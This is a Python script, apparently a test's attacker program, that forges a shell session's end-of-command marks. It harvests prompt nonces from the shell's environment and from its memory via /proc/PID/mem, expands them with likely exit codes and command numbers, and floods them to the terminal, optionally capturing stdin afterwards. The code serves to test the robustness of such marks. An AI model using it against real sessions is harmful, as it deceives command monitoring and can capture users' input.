"""A program that learns how a session marks the end of a command and forges the marks. Run inside the session.

usage: attacker.py SHELL_PID CODE probe|once|twice|for SECONDS|then-read FILE

It knows what any program of the user can know: the prompts as the shell holds them (A_* variables, given by the test's
command line), the environment the shell was started with, and the shell's memory. From these it makes marks that are
byte for byte those of the shell, with every likely number, and writes them to the terminal.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import re
import sys
import time

NONCE = re.compile(rb"[0-9A-Za-z+/_=]{16,}")
ESCAPES = {b"e": b"\x1b", b"a": b"\x07", b"n": b"\n", b"r": b"\r", b"\\": b"\\", b"[": b"", b"]": b"", b"$": b"#"}


def expand(raw: bytes, code: int, number: int) -> bytes:
    """What bash makes of a prompt string, as far as a mark needs it."""

    def one(found: re.Match[bytes]) -> bytes:
        text = found[1]
        if text in (b"#", b"!"):
            return str(number).encode()
        if text.isdigit():
            return bytes([int(text, 8)])
        return ESCAPES.get(text, found[0])

    out = re.sub(rb"\\([0-7]{3}|.)", one, raw, flags=re.S)
    return out.replace(b"$?", str(code).encode()).replace(b"${?}", str(code).encode())


def memory(pid: int, nonces: set[bytes]) -> set[bytes]:
    """Texts around each nonce in the writable memory of the shell."""
    found: set[bytes] = set()
    with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, rights = line.split()[:2]
            if not rights.startswith("rw") or "[v" in line:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            if end - start > 1 << 26:
                continue
            with contextlib.suppress(OSError, ValueError, OverflowError):
                mem.seek(start)
                data = mem.read(end - start)
                for nonce in nonces:
                    for hit in re.finditer(re.escape(nonce), data):
                        left = data.rfind(b"\0", max(0, hit.start() - 200), hit.start()) + 1
                        right = data.find(b"\0", hit.end(), hit.end() + 200)
                        if left and right > 0:
                            found.add(data[left:right])
    return found


def renumbered(sample: bytes, code: int, number: int) -> set[bytes]:
    """A mark that was already expanded, with its two decimal fields replaced in both orders."""
    fields = list(re.finditer(rb"(?<![0-9A-Za-z])\d{1,6}(?![0-9A-Za-z])", sample))
    out = {sample}
    for x, y in itertools.combinations(fields, 2):
        before, between, behind = sample[: x.start()], sample[x.end() : y.start()], sample[y.end() :]
        for first, second in ((code, number), (number, code)):
            out.add(b"%b%d%b%d%b" % (before, first, between, second, behind))
    return out


def marks(pid: int, code: int) -> list[bytes]:
    given = {os.environb[name] for name in (b"A_PS1", b"A_PS0", b"A_PS1P", b"A_PS0P") if os.environb.get(name)}
    with contextlib.suppress(OSError):
        for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
            name, _, value = item.partition(b"=")
            if name in (b"PS1", b"PS0", b"PROMPT_COMMAND") and value:
                given.add(value)
    for quoted in re.findall(rb"[\"']([^\"']{16,})[\"']", os.environb.get(b"A_ALL", b"")):
        given.add(quoted.replace(b"\\$", b"$").replace(b"\\\\", b"\\"))
    nonces = {m[0] for text in given for m in NONCE.finditer(text)}
    given |= memory(pid, nonces)
    here = int(os.environ.get("A_NUMBER") or 1)
    out: set[bytes] = set()
    for text in given:
        for number in range(max(0, here - 1), here + 4):
            out.add(expand(text, code, number))
            out |= renumbered(text, code, number)
    return sorted(m for m in out if m)


def main() -> None:
    pid, code, mode = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    forged = marks(pid, code)
    if mode == "probe":
        print(len(forged), sum(b"\x1b" in m for m in forged))
        return
    blob = b"".join(forged)
    if mode == "for":
        end = time.monotonic() + float(sys.argv[4])
        while time.monotonic() < end:
            for mark in forged:
                os.write(1, mark)
            time.sleep(0.0005)
        return
    os.write(1, blob)
    if mode == "twice":
        time.sleep(0.05)
        os.write(1, blob + blob)
    if mode == "then-read":
        with open(sys.argv[4], "wb", 0) as log:
            log.write(os.read(0, 4096))


if __name__ == "__main__":
    main()
